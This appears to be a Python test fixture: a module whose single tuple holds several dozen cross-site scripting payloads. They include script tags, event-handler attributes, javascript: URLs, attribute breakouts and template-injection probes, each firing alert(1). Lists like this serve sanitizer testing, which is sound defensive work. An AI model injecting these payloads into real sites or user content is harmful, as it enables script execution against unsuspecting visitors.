"""Texts by which somebody may try to make a page run a script: sixty ways out of text, attributes and scripts."""

from typing import Final

PAYLOADS: Final = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=data:,alert(1)></script>",
    "<script>alert`1`</script>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</script>",
    "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror=alert&#40;1&#41;>",
    "<img src='x' onerror='alert(1)'>", "<IMG SRC=x ONERROR=alert(1)>", "<img src=x:alert(1) onerror=eval(src)>",
    "<image src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>", "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<video src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x", "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<style>@import 'javascript:alert(1)';</style>", "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=data:,*{x:y} onload=alert(1)>",
    "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>", '"><script>alert(1)</script>', "'><script>alert(1)</script>",
    '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '" autofocus onfocus=alert(1) x="',
    '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "';alert(1)//", '";alert(1)//', "\\';alert(1)//",
    "${alert(1)}", "{{alert(1)}}", "{{7*7}}{% raw %}<script>alert(1)</script>", "{name}<svg onload=alert(1)>",
    "%(name)s<svg onload=alert(1)>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)  # fmt: skip
